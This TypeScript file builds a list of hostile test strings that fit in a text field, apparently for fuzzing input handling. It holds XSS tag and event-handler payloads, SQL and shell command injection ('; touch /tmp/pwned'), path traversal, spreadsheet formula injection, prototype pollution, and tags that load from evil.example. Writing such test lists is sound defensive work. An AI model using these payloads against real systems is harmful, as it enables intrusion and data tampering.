/** Words that become code, markup or a command where somebody puts them together carelessly. Each fits into every text field: one line, at most 80 letters. */
const MARK = 'pwned()';

const TAGS = [
  `<script>${MARK}</script>`, `<img src=x onerror=${MARK}>`, `<svg onload=${MARK}>`, `<svg/onload=${MARK}>`, `<body onload=${MARK}>`, `<iframe srcdoc="<script>parent.${MARK}</script>">`, `<a href="javascript:${MARK}">x</a>`,
  `<details open ontoggle=${MARK}>`, `<input autofocus onfocus=${MARK}>`, `<video><source onerror=${MARK}>`, `<audio src=x onerror=${MARK}>`, `<math><mtext></mtext><script>${MARK}</script>`, `<object data="javascript:${MARK}">`, `<embed src="javascript:${MARK}">`,
  `<form action="javascript:${MARK}"><button>x`, `<button formaction="javascript:${MARK}">x`, `<meta http-equiv=refresh content="0;javascript:${MARK}">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example">`,
  `<style>@import "https://evil.example";</style>`, `<style>*{animation:x}</style><p onanimationstart=${MARK}>`, `<template><script>${MARK}</script>`, `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`, `<xmp><script>${MARK}</script>`,
  `<marquee onstart=${MARK}>x`, `<select onfocus=${MARK} autofocus>`, `<textarea onfocus=${MARK} autofocus>`, `<webview src="https://evil.example"></webview>`, `<portal src="https://evil.example">`, `<script src=data:,${MARK}></script>`, `<script type=module>${MARK}</script>`,
  `<svg><script>${MARK}</script></svg>`, `<svg><animate onbegin=${MARK} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${MARK}>#x">`, `<svg><set onbegin=${MARK}>`, `<foreignObject><img src=x onerror=${MARK}>`, `<p style="x:expression(${MARK})">`,
] as const;
const EVENTS = [
  'onanimationend', 'onauxclick', 'onbeforeinput', 'onbeforetoggle', 'onblur', 'oncanplay', 'onchange', 'onclick', 'oncopy', 'oncut', 'ondblclick', 'ondragenter', 'onended', 'onfocusin', 'onhashchange', 'oninput', 'onkeydown', 'onload', 'onmessage',
  'onmouseover', 'onpaste', 'onplay', 'onpointerover', 'onpointerrawupdate', 'onresize', 'onscroll', 'onscrollend', 'onsearch', 'onselectionchange', 'onsubmit', 'ontoggle', 'ontransitionend', 'onunload', 'onwheel',
] as const;
/** Out of an attribute, a text of a program, a comment, an element. */
const BREAKS = ['"', "'", '">', "'>", '`', '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '\\"', "\\'", '&quot;>', '&#34;>', '\u2028', '}}', '${'] as const;
const CODE = [
  `javascript:${MARK}`, `JaVaScRiPt:${MARK}`, `data:text/html,<script>${MARK}</script>`, `vbscript:${MARK}`, `{{constructor.constructor('${MARK}')()}}`, `\${${MARK}}`, `#{${MARK}}`, `<%= ${MARK} %>`, `{{7*7}}`, `[[${MARK}]]`, `';${MARK};//`, `";${MARK};//`,
  `\`;${MARK};//`, `\\u003cscript\\u003e${MARK}`, `&lt;script&gt;${MARK}`, `%3Cscript%3E${MARK}`, `\\x3cscript\\x3e${MARK}`, `＜script＞${MARK}`, `<scr\u200bipt>${MARK}</script>`, `<\u202escript>${MARK}`, `on\u0131error=${MARK}`,
  "' OR 1=1 --", "'; DROP TABLE attempts; --", '" UNION SELECT * FROM attempts --', "\\'; DROP TABLE attempts;", '%27%20OR%201=1', '$(touch /tmp/pwned)', '`touch /tmp/pwned`', '; touch /tmp/pwned', '| touch /tmp/pwned', '&& touch /tmp/pwned', '../../../../tmp/pwned', '..\\..\\pwned',
  '%s%s%s%n%n', '%00', '=cmd|"/c calc"!A1', '@SUM(1+1)*cmd', '+cmd|x', '-2+3+cmd|x', '=HYPERLINK("https://evil.example")', '__proto__', 'constructor', 'toString', '[object Object]', 'undefined', 'null', 'NaN', '{"__proto__":{"pwned":1}}', '*/' + MARK + '/*', 'url(javascript:pwned())',
] as const;
const LOOKS = ['\u202ereversed', '\u2066isolated', 'a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301', '🏴\u200d☠️', '\ufeffx', '\u00a0\u00a0\u00a0', '\u3000', 'ﷺ', '礼\ufe00', '👩‍👩‍👧‍👦', 'W'.repeat(80), 'ｗ'.repeat(80), '\u{10ffff}', '\u{e0001}', 'ı̇', 'ß'.repeat(40)] as const;

const all = [...TAGS, ...EVENTS.map((event) => `<b ${event}=${MARK} tabindex=0 autofocus contenteditable>x`), ...BREAKS.flatMap((out) => [`${out}<img src=x onerror=${MARK}>`, `${out} onfocus=${MARK} autofocus x=`, `${out}<svg onload=${MARK}>`, `${out}${MARK}//`]), ...CODE, ...LOOKS];

/** Those that a lawful file can carry at all. */
export const HOSTILE_TEXTS: readonly string[] = [...new Set(all)].filter((text) => text.length <= 80);
